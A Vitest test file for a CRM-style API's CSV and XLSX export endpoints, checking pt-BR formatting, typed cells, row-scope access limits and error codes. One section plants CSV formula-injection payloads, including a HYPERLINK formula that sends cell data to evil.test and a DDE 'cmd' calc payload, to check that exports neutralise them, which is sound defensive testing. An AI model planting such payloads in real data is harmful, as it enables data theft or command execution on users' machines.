// GET /<resource>/export: the list's rows, within the caller's row scope, streamed as CSV for a Brazilian
// Excel or as XLSX with numbers and dates typed; the selection (ids) or the whole filter.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UserRole } from '../../common/enums';
import { formatDocument } from '../../common/documents';
import { createTestApp, type TestApp } from '../helpers/app';
import {
  createAddress,
  createContact,
  createOportunidade,
  createPerson,
  createTag,
  addVinculo,
  tagOportunidade,
  validCnpj,
} from '../helpers/fixtures';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

let batch = 0;
const uniqueWord = () => `Exporta${String.fromCharCode(97 + (batch % 26))}${String.fromCharCode(97 + Math.floor(batch++ / 26))}`;

async function download(url: string, headers: { authorization: string }) {
  const res = await t.app.inject({ method: 'GET', url, headers });
  return { status: res.statusCode, headers: res.headers, bytes: res.rawPayload, text: res.body };
}

/** The CSV as a header and one record per line, split as a pt-BR Excel does: ';' between cells. */
function csvRecords(text: string) {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const [header, ...lines] = text.slice(1).split('\r\n');
  const headers = header.split(';');
  return { headers, records: lines.map((line) => Object.fromEntries(line.split(';').map((cell, i) => [headers[i], cell]))) };
}

async function xlsxRows(bytes: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  const rows: unknown[][] = [];
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

const staff = async () => t.as(await t.createUser({ role: UserRole.Admin }));

describe('persons export', () => {
  it('gives the filtered persons as CSV with their primary address and contact, and an ASCII dated file name', async () => {
    const db = t.database.db;
    const word = uniqueWord();
    const ana = await createPerson(db, { name: `${word} Ana; Souza`, odoo_company_id: 77 });
    await createAddress(db, ana.id, { is_primary: true, street: 'Rua "Um"', number: '10', city: 'Recife', state: 'PE' });
    await createContact(db, ana.id, { is_primary: true, contact_type: 2, value: 'ana@example.com' });
    const inactive = await createPerson(db, { name: `${word} Bia`, is_active: false, role: 2 });
    await createPerson(db, { name: 'Outra pessoa qualquer' });

    const res = await download(`/api/v1/persons/export?format=csv&query=${word}`, await staff());
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="pessoas-\d{4}-\d{2}-\d{2}\.csv"$/);
    const { headers } = csvRecords(res.text);
    expect(headers).toEqual([
      'ID', 'Nome', 'Nome Fantasia', 'Documento', 'Tipo', 'Papel', 'Status', 'ID Odoo',
      'CEP', 'Logradouro', 'Número', 'Complemento', 'Bairro', 'Cidade', 'UF', 'Tipo de Contato', 'Contato',
    ]);
    const lines = res.text.split('\r\n').slice(1);
    expect(lines).toEqual([
      `${inactive.id};${word} Bia;;${formatDocument(inactive.document)};Pessoa Física;Parceiro;Inativo;;;;;;;;;;`,
      `${ana.id};"${word} Ana; Souza";;${formatDocument(ana.document)};Pessoa Física;Cliente;Ativo;77;01001-000;"Rua ""Um""";10;;Sé;Recife;PE;Email;ana@example.com`,
    ]);
  });

  it('exports only the selection when ids are given, and refuses a bad format or id list with 422', async () => {
    const db = t.database.db;
    const [a, , c] = [await createPerson(db), await createPerson(db), await createPerson(db)];
    const headers = await staff();
    const res = await download(`/api/v1/persons/export?ids=${a.id},${c.id}`, headers);
    expect(csvRecords(res.text).records.map((r) => Number(r.ID))).toEqual([c.id, a.id]);
    for (const query of ['format=pdf', 'ids=1,,2', 'ids=abc']) {
      const bad = await t.call({ method: 'GET', url: `/api/v1/persons/export?${query}`, headers });
      expect(bad.status, query).toBe(422);
      expect(bad.body.detail[0].loc[0]).toBe('query');
    }
  });

  it("gives an external user only its circle's persons, however it filters or selects", async () => {
    const db = t.database.db;
    const word = uniqueWord();
    const mine = await createPerson(db, { name: `${word} Minha` });
    const foreign = await createPerson(db, { name: `${word} Alheia` });
    const partner = await t.createUser({ role: UserRole.Partner });
    await addVinculo(db, partner.id, mine.id);
    const headers = await t.as(partner);
    for (const query of [`query=${word}`, `ids=${mine.id},${foreign.id}`, `ids=${foreign.id}`]) {
      const res = await download(`/api/v1/persons/export?${query}`, headers);
      const ids = csvRecords(res.text).records.map((r) => Number(r.ID));
      expect(ids, query).toEqual(query === `ids=${foreign.id}` ? [] : [mine.id]);
    }
  });

  it('gives XLSX with the ID as a number and the texts as texts', async () => {
    const db = t.database.db;
    const word = uniqueWord();
    const person = await createPerson(db, { name: `${word} Planilha`, odoo_company_id: 12 });
    const res = await download(`/api/v1/persons/export?format=xlsx&query=${word}`, await staff());
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toMatch(/filename="pessoas-\d{4}-\d{2}-\d{2}\.xlsx"/);
    const rows = await xlsxRows(res.bytes);
    expect(rows[0].slice(0, 3)).toEqual(['ID', 'Nome', 'Nome Fantasia']);
    expect(rows).toHaveLength(2);
    expect(rows[1][0]).toBe(person.id);
    expect(rows[1][1]).toBe(`${word} Planilha`);
    expect(rows[1][7]).toBe(12);
  });
});

describe('opportunities export', () => {
  it('gives money with a decimal comma and dates as dd/mm/aaaa in CSV, typed in XLSX', async () => {
    const db = t.database.db;
    const word = uniqueWord();
    const client = await createPerson(db, { name: `${word} Cliente` });
    const tag = await createTag(db, { name: `${word}tag` });
    const rich = await createOportunidade(db, {
      titulo: `${word} Rica`,
      cliente_id: client.id,
      receita_esperada: '250000.50',
      honorarios: '12.50',
      id_externo: 'EXT-1',
      created_at: new Date('2026-03-05T12:00:00Z'),
    });
    await tagOportunidade(db, rich.id, tag.id);
    const headers = await staff();
    const csv = await download(`/api/v1/oportunidades/export?query=${word}`, headers);
    expect(csv.headers['content-disposition']).toMatch(/filename="oportunidades-\d{4}-\d{2}-\d{2}\.csv"/);
    const { headers: columns, records } = csvRecords(csv.text);
    expect(columns.join(';')).toBe(
      'ID;Título;Cliente;Parceiro;Estágio;Tese;Status;Tags;Receita Esperada (R$);Honorários (%);Fechamento previsto;Probabilidade (%);ID Odoo;ID Externo;Motivo da perda;Criado em',
    );
    expect(records).toEqual([
      expect.objectContaining({
        ID: String(rich.id),
        Cliente: `${word} Cliente`,
        Estágio: 'Lead',
        Status: 'Em Andamento',
        Tags: `${word}tag`,
        'Receita Esperada (R$)': '250000,50',
        'Honorários (%)': '12,50',
        'ID Externo': 'EXT-1',
        'Criado em': '05/03/2026',
      }),
    ]);

    const rows = await xlsxRows((await download(`/api/v1/oportunidades/export?format=xlsx&query=${word}`, headers)).bytes);
    expect(rows[1][8]).toBe(250000.5);
    expect(rows[1][9]).toBe(12.5);
    expect(rows[1][15]).toEqual(new Date(Date.UTC(2026, 2, 5)));
  });

  it("gives an external user only the opportunities its list shows", async () => {
    const db = t.database.db;
    const word = uniqueWord();
    const mine = await createPerson(db, { role: 2 });
    const visible = await createOportunidade(db, { titulo: `${word} Visível`, parceiro_id: mine.id });
    await createOportunidade(db, { titulo: `${word} Oculta` });
    const partner = await t.createUser({ role: UserRole.Partner, person_id: mine.id });
    const res = await download(`/api/v1/oportunidades/export?query=${word}`, await t.as(partner));
    expect(csvRecords(res.text).records.map((r) => Number(r.ID))).toEqual([visible.id]);
  });
});

describe('formulas in exports (issue 25, hole 1)', () => {
  // The four names of the report, plus a tab and a carriage return, which OWASP lists too.
  const PAYLOADS = ['=HYPERLINK("http://evil.test/?x="&A1,"x")', "+1+cmd|' /C calc'!A0", '@SUM(1,1)', '-2+3'];

  async function hostilePersons() {
    const word = uniqueWord();
    const headers = await staff();
    for (const [i, payload] of PAYLOADS.entries()) {
      // Created through the API, as any signed-in user may; the word is the trade name so the search finds them.
      const res = await t.call({
        method: 'POST',
        url: '/api/v1/persons/',
        headers,
        payload: { person_type: 2, document: validCnpj(), name: payload, trade_name: `${word} ${i}`, role: 1 },
      });
      expect(res.status, res.body).toBe(201);
    }
    await createPerson(t.database.db, { name: `\tTab`, trade_name: `${word} tab` });
    await createPerson(t.database.db, { name: `\rRetorno`, trade_name: `${word} cr` });
    return { word, headers, expected: [...PAYLOADS, '\tTab', '\rRetorno'].map((name) => `'${name}`).sort() };
  }

  it('writes every formula-like name of a persons CSV after an apostrophe', async () => {
    const { word, headers, expected } = await hostilePersons();
    const res = await download(`/api/v1/persons/export?format=csv&query=${word}`, headers);
    const { records } = csvRecords(res.text);
    const names = records.map((r) => r.Nome.replace(/^"|"$/g, '').replace(/""/g, '"')).sort();
    expect(names).toEqual(expected);
    expect(records.every((r) => /^\d+$/.test(r.ID))).toBe(true);
  });

  it('writes them as text cells starting with an apostrophe in a persons XLSX, numbers staying numbers', async () => {
    const { word, headers, expected } = await hostilePersons();
    const rows = await xlsxRows((await download(`/api/v1/persons/export?format=xlsx&query=${word}`, headers)).bytes);
    // XML reads a carriage return back as a line feed; the apostrophe before it is what matters.
    expect(rows.slice(1).map((row) => row[1]).sort()).toEqual(expected.map((name) => name.replace('\r', '\n')).sort());
    expect(rows.slice(1).every((row) => typeof row[0] === 'number')).toBe(true);
  });

  it('neutralises a formula-like opportunity title while its money stays a number', async () => {
    // A negative amount cannot be stored (a check constraint); tests/unit/csv.test.ts shows one stays a number.
    const word = uniqueWord();
    await createOportunidade(t.database.db, { titulo: `-${word} menos`, receita_esperada: '1500.25' });
    const headers = await staff();
    const csv = csvRecords((await download(`/api/v1/oportunidades/export?query=${word}`, headers)).text).records;
    expect(csv.map((r) => [r.Título, r['Receita Esperada (R$)']])).toEqual([[`'-${word} menos`, '1500,25']]);
    const rows = await xlsxRows((await download(`/api/v1/oportunidades/export?format=xlsx&query=${word}`, headers)).bytes);
    expect([rows[1][1], rows[1][8]]).toEqual([`'-${word} menos`, 1500.25]);
  });
});

describe('users export', () => {
  it('is the staff list as CSV, refused to external roles', async () => {
    const word = uniqueWord();
    const user = await t.createUser({ role: UserRole.Partner, full_name: `${word} Usuária` });
    const res = await download(`/api/v1/users/export?query=${word}`, await staff());
    expect(res.headers['content-disposition']).toMatch(/filename="usuarios-\d{4}-\d{2}-\d{2}\.csv"/);
    expect(csvRecords(res.text).records).toEqual([
      expect.objectContaining({ ID: String(user.id), 'Nome Completo': `${word} Usuária`, Função: 'Parceiro', Status: 'Ativo' }),
    ]);
    const refused = await t.call({ method: 'GET', url: '/api/v1/users/export', headers: await t.as(user) });
    expect(refused.status).toBe(403);
  });
});
